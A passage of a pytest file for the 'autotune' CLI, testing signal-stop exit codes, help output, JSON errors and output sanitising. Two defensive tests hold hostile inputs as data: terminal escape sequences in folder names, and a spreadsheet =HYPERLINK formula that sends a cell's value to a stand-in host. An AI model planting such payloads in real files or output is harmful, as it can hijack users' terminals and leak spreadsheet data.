              "parsing = click_core.Command.parse_args\n"
              "def parse(*args, **kwargs):\n"
              "    if {module!r} == 'parse_args':\n"
              "        os.kill(os.getpid(), signal.{signal})\n"
              "    return parsing(*args, **kwargs)\n"
              "click_core.Command.parse_args = parse\n"
              "from autotune.entry import main\n"
              "main()\n")


@pytest.mark.parametrize(("signal_name", "argv", "module", "line", "shape"), [
    ("SIGTERM", ["probe"], "autotune.cli", "interrupted (before the command started)", None),
    ("SIGINT", ["status", "nowhere"], "typer.main.get_command", "interrupted (before the command started)", None),
    ("SIGTERM", ["status", "nowhere"], "parse_args", "interrupted (before the command started)", None),
    ("SIGINT", ["status", "nowhere", "--json"], "autotune.tuner.status", "interrupted: autotune status stopped before it was done",
     {"study": None, "best": None, "winner": None}),
    ("SIGTERM", ["search", "--model", "resnet18", "--json"], "autotune.api",
     "interrupted: autotune search stopped before it was done", {"best": None}),
    ("SIGHUP", ["report", "nowhere"], "autotune.tuner.study_report", "interrupted: autotune report stopped before it was done", None),
], ids=["sigterm-importing", "sigint-building", "sigterm-parsing", "sigint-status-json", "sigterm-search-json", "sighup-report"])
def test_a_stop_before_a_command_answers_stops_itself_is_one_line_and_exit_130(signal_name, argv, module, line, shape) -> None:
    """A Ctrl-C, SIGTERM or SIGHUP after the CLI's imports and before a command handles stops itself: Typer turned
    the Ctrl-C into a silent exit 130 (or a traceback while it built the command), and SIGTERM ended the process with
    a silent 143. Each is one line and exit 130, with ``--json`` the command's error object. No timing: the signal is
    sent as the named module is imported (or as Typer builds the command)."""
    code = _SIGNAL_AT.format(argv=argv, module=module, signal=signal_name)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert (done.returncode, done.stderr) == (130, f"error: {line}\n")
    assert (json.loads(done.stdout) if shape is not None else done.stdout) == ({**shape, "error": line} if shape is not None else "")


def test_a_bare_autotune_prints_its_help() -> None:
    """``autotune`` with no command printed nothing at all and exited 2: the usage-error handling skipped the help Click
    had not printed yet."""
    done = subprocess.run([sys.executable, "-m", "autotune"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.startswith("Usage: ") and "Commands:" in done.stderr
    assert all(f"  {name} " in done.stderr for name in ("probe", "trial", "search", "emit", "report", "status"))


def test_the_sampler_is_read_in_any_case_as_amp_and_device_are() -> None:
    """``--sampler RANDOM`` was refused while ``--amp BF16`` and ``--device CPU`` were read."""
    from autotune.tuner import SearchConfig

    config = SearchConfig(model="resnet18", trials=3, sampler="Random")
    config.validate()
    assert config.sampler == "random"


def test_a_stop_after_a_json_command_printed_its_object_adds_no_second_one(capsys) -> None:
    """A second Ctrl-C after an interrupted search printed its summary printed a second object (`{"best": null, ...}`)."""
    from autotune.cli_errors import echo_json, json_on_error

    @json_on_error(best=None)
    def printed_then_stopped(as_json: bool) -> None:
        echo_json({"best": 1})
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        printed_then_stopped(as_json=True)
    assert capsys.readouterr().out == '{"best": 1}\n'


@pytest.mark.parametrize("as_json", [False, True])
def test_a_second_ctrl_c_as_the_first_one_unwinds_still_ends_the_search_as_interrupted(monkeypatch, as_json: bool) -> None:
    """Three quick Ctrl-Cs during the calibration once ended with the generic `interrupted: autotune search stopped before it
    was done`: the second one's KeyboardInterrupt, raised as the first one's SearchInterrupted unwound (the lock's
    release, the display's teardown), replaced it. The search's own line and exit 130 stand, with --json its object."""
    import autotune.api
    from autotune.errors import SearchInterrupted

    line = "interrupted during calibration, before the first trial (runs measured and kept: 2); rerun the same command to go on"

    def stopped_twice(*args: object, **kwargs: object) -> None:
        try:
            raise SearchInterrupted(line)
        finally:
            raise KeyboardInterrupt  # the second signal, in a finally the first one's unwinding runs

    monkeypatch.setattr(autotune.api, "cli_search", stopped_twice)
    result = runner.invoke(app, ["search", "--model", "resnet18", "--device", "cpu", *(["--json"] if as_json else [])])
    assert result.exit_code == 130, result.output
    assert result.stderr.strip().splitlines()[-1] == line, result.stderr
    if as_json:
        assert json.loads(result.stdout) == {"best": None, "interrupted": True}

    def storage_failed_as_it_unwound(*args: object, **kwargs: object) -> None:
        try:
            raise SearchInterrupted(line)
        finally:
            raise StorageError("cannot write to the study storage: disk full") from None  # said over it on purpose

    from autotune.errors import StorageError

    monkeypatch.setattr(autotune.api, "cli_search", storage_failed_as_it_unwound)
    result = runner.invoke(app, ["search", "--model", "resnet18", "--device", "cpu"])
    assert result.exit_code == 1 and "cannot write to the study storage: disk full" in result.stderr, result.output


def test_a_search_stopped_by_its_terminal_closing_still_exits_130(monkeypatch) -> None:
    """A terminal closed under a search (a pty hangup: SIGHUP) stopped it cleanly, but its summary and line, written to
    the terminal gone, raised EIO, and the search ended with exit 1, a failure's, where a stop's is 130."""
    import errno

    import autotune.api
    import autotune.cli
    from autotune.errors import SearchInterrupted

    def hung_up(*args: object, **kwargs: object) -> None:
        raise SearchInterrupted("interrupted: 1 finished trial kept in sqlite:///out/study.db; best so far written to out/best.json")

    def terminal_gone(*args: object, **kwargs: object) -> None:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(autotune.api, "cli_search", hung_up)
    monkeypatch.setattr(autotune.cli.err, "print", terminal_gone)
    result = runner.invoke(app, ["search", "--model", "resnet18", "--device", "cpu"])
    assert result.exit_code == 130, result.output


def test_a_classifier_s_trial_says_the_size_it_needs_and_inception_v3_defaults_to_299(cache_dir) -> None:
    """`autotune trial` printed the model's bare shape error where the search names the image size it needs; and
    inception_v3 (whose auxiliary head fails below 299 px in training) failed at the shorthand's default 224."""
    from autotune.api import _shorthand

    result = runner.invoke(app, ["trial", "--model", "alexnet", "--image-size", "32", "--batch-size", "4", "--trial-seconds", "1",
                                 "--device", "cpu", "--synthetic-images", "64", "--cache-dir", str(cache_dir), "--json"])
    error = json.loads(result.stdout)["error"]
    assert result.exit_code == 1 and error.endswith("(at --image-size 32; the model needs larger images: it is built for 224 px, "
                                                    "try --image-size 224)"), error
    assert _shorthand(None, "inception_v3", None, None, "resnet50")[1] == 299
    assert _shorthand(None, None, None, None, "resnet50") == ("resnet50", 224)
    assert _shorthand(None, "inception_v3", None, 320, "resnet50")[1] == 320  # a size given stays


def test_control_characters_in_names_print_as_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    """A class folder named `cat<ESC>]0;title<ESC>\\` in a downloaded dataset, printed in the search's `data:` line, set
    the terminal's title, and `<ESC>[2J` cleared the screen; an error naming such a path did too. Rich's own codes pass."""
    from rich.console import Console

    from autotune.cli_errors import error_line
    from autotune.errors import WorkloadError
    from autotune.render import ControlsShown, console

    console().print("data: d: 2 images in 2 classes (cat\x1b]0;title\x1b\\, dog\x1b[2J\x9b)", highlight=False)
    assert capsys.readouterr().out == "data: d: 2 images in 2 classes (cat\\x1b]0;title\\x1b\\, dog\\x1b[2J\\x9b)\n"
    assert error_line(WorkloadError("data directory /d/\x1b[31mx\r\nholds"))[0] == "data directory /d/\\x1b[31mx\\r\\nholds"
    terminal = Console(force_terminal=True, color_system="standard", width=80)
    terminal.push_render_hook(ControlsShown())
    with terminal.capture() as captured:
        terminal.print("[bold]cat[/]\x1b[2J", highlight=False)
    assert captured.get() == "\x1b[1mcat\x1b[0m\\x1b[2J\n"


def test_an_error_that_begins_like_a_formula_is_text_in_trials_csv(tmp_path: Path) -> None:
    """A Task's own error `=HYPERLINK(...)` was a live link once trials.csv was opened in a spreadsheet."""
    import csv

    from autotune.output.trials_csv import write_trials_csv
    from autotune.records import TrialRecord, TrialResult
    from autotune.train_setup import TrainSetup

    errors = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "@SUM(A1)", "-2+3", "RuntimeError: = is fine inside"]
    records = [TrialRecord(i, "sampled", TrainSetup(), TrialResult(status="error", error=e)) for i, e in enumerate(errors)]
    write_trials_csv(tmp_path / "trials.csv", records)
    with open(tmp_path / "trials.csv", newline="", encoding="utf-8") as fh:
        said = [row["error"] for row in csv.DictReader(fh)]
    assert said == [f"'{e}" for e in errors[:4]] + [errors[4]]
